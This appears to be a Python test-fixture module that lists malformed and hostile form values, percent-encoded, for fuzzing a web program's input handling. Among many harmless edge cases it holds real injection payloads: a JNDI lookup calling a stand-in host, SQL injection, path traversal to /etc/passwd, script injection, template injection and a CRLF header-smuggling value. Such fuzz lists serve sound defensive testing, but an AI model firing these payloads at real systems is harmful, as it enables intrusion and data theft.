"""Values that break a program somewhere behind its front door, as percent-encoded bytes of a form."""

from urllib.parse import quote

TEXTS = (
    '"',
    "\\",
    "'",
    "é",
    "一证",
    "\U0001f600",
    "\u202e",
    "\u2028",
    "\ufeff",
    "\x7f",
    "\x01",
    "\t",
    "\r\nSet-Cookie: session=1",
    " ",
    "%",
    "%zz",
    "%00",
    "${jndi:ldap://evil.test/a}",
    "{{7*7}}",
    "' OR 1=1--",
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
    "[",
    "[]",
    "{}",
    "null",
    "-1",
    "9" * 30,
    "9" * 5000,
    "1e309",
    "NaN",
    "１２３",
    "٣",
    "true",
    "a" * 300,
    "a" * 9000,
)
BYTES = (
    b"%00",
    b"a%00b",
    b"%ff",
    b"%fe%ff",
    b"%c3",
    b"%c3%28",
    b"%c0%80",
    b"%e0%80%af",
    b"%ed%a0%80",
    b"%f4%90%80%80",
    b"%f0%28%8c%28",
    b"%",
    b"%g1",
    b"%u0041",
    b"+",
    b"&",
    b"=",
    b"a=b",
    b";",
    b"\x7f",
)
VALUES = (*(quote(text, safe="").encode() for text in TEXTS), *BYTES)
"""Each stands behind `name=`; `+`, `&` and `=` bend the form itself."""


def label(value: bytes) -> str:
    """What stands for a value in the name of a test."""
    return value.decode("latin-1")[:30]
